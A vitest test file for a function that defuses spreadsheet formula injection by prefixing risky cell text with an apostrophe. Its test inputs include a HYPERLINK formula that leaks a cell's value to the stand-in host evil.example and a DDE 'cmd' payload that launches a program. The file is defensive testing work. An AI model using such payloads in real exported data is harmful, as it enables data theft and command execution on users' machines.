import { describe, expect, it } from 'vitest';
import { looksLikeSpreadsheetFormula, neutraliseSpreadsheetText } from './neutralise-spreadsheet-text.js';

describe('neutraliseSpreadsheetText', () => {
  it('prefixes text a spreadsheet would run as a formula', () => {
    expect(neutraliseSpreadsheetText('=HYPERLINK("http://evil.example/?leak="&A1,"点击")')).toBe('\'=HYPERLINK("http://evil.example/?leak="&A1,"点击")');
    expect(neutraliseSpreadsheetText('+cmd|\' /C calc\'!A0')).toBe("'+cmd|' /C calc'!A0");
    expect(neutraliseSpreadsheetText('-2+3+cmd|\' /C calc\'!A0')).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(neutraliseSpreadsheetText('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(neutraliseSpreadsheetText('\t=1+1')).toBe("'\t=1+1");
    expect(neutraliseSpreadsheetText('\r=1+1')).toBe("'\r=1+1");
  });

  it('leaves ordinary text, plain numbers and a lone dash alone', () => {
    for (const s of ['培训人次', '≥95%', ' =1', '－5', '＝1+1', '-5', '+3.5', '-12.50%', '-', '', '1e3', '98.125']) {
      expect(neutraliseSpreadsheetText(s)).toBe(s);
      expect(looksLikeSpreadsheetFormula(s)).toBe(false);
    }
    expect(looksLikeSpreadsheetFormula('=100%')).toBe(true); // a target "equal to 100%": text, kept as written in XLSX
  });
});
